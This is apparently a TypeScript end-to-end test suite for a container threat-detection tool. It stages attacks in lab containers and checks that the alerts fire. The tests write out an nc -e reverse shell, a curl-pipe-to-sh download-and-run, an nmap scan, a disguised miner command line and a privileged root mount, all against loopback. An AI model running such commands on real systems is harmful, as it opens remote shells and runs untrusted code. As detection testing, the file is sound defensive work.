import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { adminClient, engines, LAB, newNamespace } from '../support/engines';
import { execIn, removeContainers, runContainer } from '../support/containers';
import { DockwardProcess } from '../support/dockward';
import { fetchAll } from '../support/elasticsearch';

type Alert = { rule: { id: string }; threat: { technique: { id: string[]; name: string[]; subtechnique?: { id: string[] } } }; container: { id: string }; dockward: { alert: { count: number; summary: boolean } } };

describe('detection end to end (attack lab on the real engines)', () => {
  const { docker } = engines();
  const es = adminClient();
  const ns = newNamespace('det');
  const index = `logs-dockward.alert-${ns}`;
  // Building blocks (class: signal: dockward-net-tool, dockward-interactive-exec) land in the signal stream.
  const signals = `logs-dockward.signal-${ns}`;
  let dw: DockwardProcess;

  /** Waits until the container's findings (alerts and signals) include every one of `ruleIds`. */
  async function alertsFor(id: string, ruleIds: string[], timeoutMs = 30_000): Promise<Alert[]> {
    const end = Date.now() + timeoutMs;
    for (;;) {
      // A stream created a moment ago may have no started shard yet (no_shard_available): not yet, not a failure.
      const a = await fetchAll<Alert>(es, `${index},${signals}`, { term: { 'container.id': id } }).catch(() => []);
      if (ruleIds.every((r) => a.some((x) => x.rule.id === r))) return a;
      if (Date.now() > end) throw new Error(`expected ${ruleIds} for ${id.slice(0, 12)}, got ${a.map((x) => x.rule.id)}\n${dw.log.slice(-1500)}`);
      await new Promise((r) => setTimeout(r, 500));
    }
  }

  const exec = (id: string, cmd: string[], tty = false) => execIn(docker, id, cmd, { tty });

  const customRules = mkdtempSync(join(tmpdir(), 'dw-rules-'));

  before(async () => {
    dw = DockwardProcess.run({
      namespace: ns,
      sets: [
        'collectors.processes.schedule=* * * * * *',
        'collectors.processes.stagger=100ms',
        'collectors.drift.schedule=*/2 * * * * *',
        'detect.window=4s',
        `detect.rules=["${customRules}"]`,
        'detect.reload_interval=500ms',
        `detect.sigma=["${join(process.cwd(), 'test', 'fixtures', 'sigma')}"]`,
      ],
    });
    await dw.waitFor(/dockward running/);
  });
  after(async () => {
    await dw.kill();
    await removeContainers(docker, ns);
    await es.close();
  });

  it('nmap against the container\'s own 127.0.0.1: process and log evidence, T1046', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-nmap`, image: LAB, cmd: ['sh', '-c', 'sleep 2; nmap -sT -p 1-3000 --max-rate 400 127.0.0.1; sleep 300'] });
    const a = await alertsFor(id, ['dockward-scanner', 'dockward-scan-output', 'dockward-net-tool'], 45_000);
    assert.ok(a.every((x) => x.threat.technique.id.includes('T1046')));
    assert.ok(a.every((x) => x.threat.technique.name.includes('Network Service Discovery')));
    const tool = await fetchAll<Alert & { event: { kind: string } }>(es, signals, { bool: { filter: [{ term: { 'container.id': id } }, { term: { 'rule.id': 'dockward-net-tool' } }] } });
    assert.ok(tool.length > 0 && tool.every((x) => x.event.kind === 'signal'), 'a network tool alone is a signal, not an alert');
  });

  it('exec attacks: nc -e reverse shell, curl|sh of a script served inside the container, an interactive shell', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-victim`, image: LAB, cmd: ['sleep', '300'] });
    await exec(id, ['nc', '-e', '/bin/sh', '127.0.0.1', '4444']);
    // The script is served from inside the container (its own loopback; --network none) and runs.
    await exec(id, ['sh', '-c', "printf 'HTTP/1.0 200 OK\\r\\n\\r\\ntouch /tmp/pwned\\n' | nc -l -N 127.0.0.1 8000 >/dev/null & sleep 0.5"]);
    await exec(id, ['sh', '-c', 'curl -s http://127.0.0.1:8000/x.sh | sh']);
    assert.equal((await docker.getExec(await exec(id, ['test', '-f', '/tmp/pwned'])).inspect()).ExitCode, 0, 'the downloaded script ran');
    await exec(id, ['sh', '-c', 'exit 0'], true);
    // sigma-7f73…: SigmaHQ's "Potential Netcat Reverse Shell Execution", loaded from test/fixtures/sigma.
    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-interactive-exec', 'sigma-7f734ed0-4f47-46c0-837f-6ee62505abd9']);
    assert.ok(a.find((x) => x.rule.id === 'dockward-reverse-shell-nc')!.threat.technique.subtechnique!.id.includes('T1059.004'));
  });

  it('a fake miner: a long-lived process whose command line names a stratum pool, seen as it runs', async () => {
    // The pool URL is put together by the shell, so only the miner's own image names it: the
    // kernel (on by default here) sees the shell's command line first, and it must not be the
    // finding; the re-exec'd image is (kernel: a new image of the shell's pid; polling: its only one).
    // The URL is in the arguments: argv[0] is no part of the command line rules see when it names
    // another program (`exec -a "xmrig -o …" sleep` is sleep, review H3).
    const { id } = await runContainer(docker, { name: `${ns}-miner`, image: LAB, cmd: ['bash', '-c', 'p=stratum; exec bash -c "sleep 300; exit" xmrig -o $p+tcp://127.0.0.1:3333 -u wallet'] });
    const a = await alertsFor(id, ['dockward-miner-process']);
    const alert = a.find((x) => x.rule.id === 'dockward-miner-process') as unknown as { process: { command_line: string }; threat: { technique: { id: string[] } } };
    assert.match(alert.process.command_line, /^bash -c sleep 300; exit xmrig -o stratum\+tcp:/);
    assert.ok(alert.threat.technique.id.includes('T1496'));
  });

  it('a binary added to the container and then run', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-dropper`, image: LAB, cmd: ['sh', '-c', 'sleep 3; cp /bin/sleep /tmp/.x; /tmp/.x 300'] });
    const a = await alertsFor(id, ['dockward-dropped-binary-exec'], 30_000);
    const alert = a.find((x) => x.rule.id === 'dockward-dropped-binary-exec') as unknown as { dockward: { alert: { matched: Record<string, unknown> } }; threat: { technique: { subtechnique: { id: string[] } } } };
    assert.ok(alert.threat.technique.subtechnique.id.includes('T1204.002'));
    assert.ok(Object.keys(alert.dockward.alert.matched).some((f) => f === 'dockward.process.dropped_binary' || f === 'dockward.file.executed'), JSON.stringify(alert.dockward.alert.matched));
  });

  it('a rule file added while running is in force within a second or two', async () => {
    writeFileSync(join(customRules, 'site.yml'), [
      'rules:',
      `  - { id: site-canary, name: Canary word, description: a site rule added at run time, kind: log, severity: low, risk_score: 21, tactics: [TA0007], techniques: [T1046], condition: { field: message, contains: "canary-${ns}" }, examples: { match: [{ message: "canary-${ns}" }], no_match: [{ message: x }] } }`,
      '',
    ].join('\n'));
    await dw.waitFor(/detection rules reloaded/);
    const { id } = await runContainer(docker, { name: `${ns}-canary`, cmd: ['sh', '-c', `echo canary-${ns}; sleep 300`] });
    await alertsFor(id, ['site-canary']);
  });

  it('a privileged container with / mounted', async () => {
    const c = await docker.createContainer({ name: `${ns}-priv`, Image: 'dockward/busybox:1', Cmd: ['sleep', '300'], HostConfig: { Privileged: true, Binds: ['/:/host'], NetworkMode: 'none' } });
    await c.start().catch(() => undefined); // cannot start in this sandbox; created is enough
    await alertsFor(c.id, ['dockward-privileged-container', 'dockward-sensitive-mount']);
  });

  it('a repeated attack is one alert and one summary with its count', async () => {
    const { id } = await runContainer(docker, { name: `${ns}-repeat`, cmd: ['sh', '-c', "seq 1 200 | sed 's/^/Nmap scan report for host /'; sleep 300"] });
    const end = Date.now() + 30_000;
    let a: Alert[] = [];
    while (Date.now() < end) {
      a = (await fetchAll<Alert>(es, index, { term: { 'container.id': id } })).filter((x) => x.rule.id === 'dockward-scan-output');
      if (a.some((x) => x.dockward.alert.summary)) break;
      await new Promise((r) => setTimeout(r, 500));
    }
    assert.equal(a.length, 2, `documents: ${JSON.stringify(a.map((x) => x.dockward.alert))}`);
    assert.deepEqual(a.map((x) => [x.dockward.alert.summary, x.dockward.alert.count]).sort(), [[false, 1], [true, 200]]);
  });

  it('a benign workload raises nothing', async () => {
    const web = await runContainer(docker, { name: `${ns}-web`, cmd: ['sh', '-c', 'i=0; while [ $i -lt 40 ]; do i=$((i+1)); echo "127.0.0.1 - - \\"GET /api/items/$i HTTP/1.1\\" 200 512"; usleep 100000; done; sleep 300'] });
    const cron = await runContainer(docker, { name: `${ns}-cron`, cmd: ['sh', '-c', 'while true; do date > /tmp/last-run; echo "job done"; sleep 1; done'] });
    for (let i = 0; i < 3; i++) await exec(web.id, ['cat', '/etc/hostname']); // health checks
    await new Promise((r) => setTimeout(r, 6000));
    for (const id of [web.id, cron.id]) {
      const a = await fetchAll<Alert>(es, index, { term: { 'container.id': id } });
      assert.deepEqual(a.map((x) => x.rule.id), [], `no alerts for ${id.slice(0, 12)}`);
    }
  });
});
